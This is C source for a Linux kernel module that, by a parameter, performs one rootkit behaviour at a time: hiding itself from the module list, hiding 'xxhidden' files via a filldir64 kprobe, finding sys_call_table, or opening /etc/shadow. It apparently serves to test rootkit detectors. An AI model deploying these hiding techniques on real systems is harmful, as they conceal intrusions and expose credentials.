// SPDX-License-Identifier: GPL-2.0
/* Hostile behaviour on any processor, one a value of `what`. For boxes only. */
#include <linux/fs.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/ptrace.h>

#ifdef CONFIG_ARM /* which has no regs_get_kernel_argument() */
#define regs_get_kernel_argument(regs, n) ((regs)->uregs[n])
#endif

static char *what = "";
module_param(what, charp, 0);

static const char prefix[] = "xxhidden";
static struct list_head *after;

static noinline bool taken(void)
{
	return true;
}

/* Names that begin so are in no listing: another function takes them. */
static int before_filldir(struct kprobe *probe, struct pt_regs *regs)
{
	const char *name = (const char *)regs_get_kernel_argument(regs, 1);
	unsigned long size = regs_get_kernel_argument(regs, 2);

	if (size < strlen(prefix) || strncmp(name, prefix, strlen(prefix)))
		return 0;
	instruction_pointer_set(regs, (unsigned long)taken);
	return 1;
}

static struct kprobe on_filldir = { .symbol_name = "filldir64", .pre_handler = before_filldir };

static int find(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	((unsigned long (*)(const char *))probe.addr)("sys_call_table");
	unregister_kprobe(&probe);
	return 0;
}

static int __init anyrootkit_init(void)
{
	if (!strcmp(what, "hide")) {
		after = THIS_MODULE->list.prev;
		list_del(&THIS_MODULE->list);
	} else if (!strcmp(what, "files")) {
		return register_kprobe(&on_filldir);
	} else if (!strcmp(what, "lookup")) {
		return find();
	} else if (!strcmp(what, "secrets")) {
		struct file *file = filp_open("/etc/shadow", O_RDONLY, 0);

		if (!IS_ERR(file))
			filp_close(file, NULL);
	}
	return 0;
}

static void __exit anyrootkit_exit(void)
{
	if (after)
		list_add(&THIS_MODULE->list, after);
	if (!strcmp(what, "files"))
		unregister_kprobe(&on_filldir);
}

module_init(anyrootkit_init);
module_exit(anyrootkit_exit);
MODULE_LICENSE("GPL");
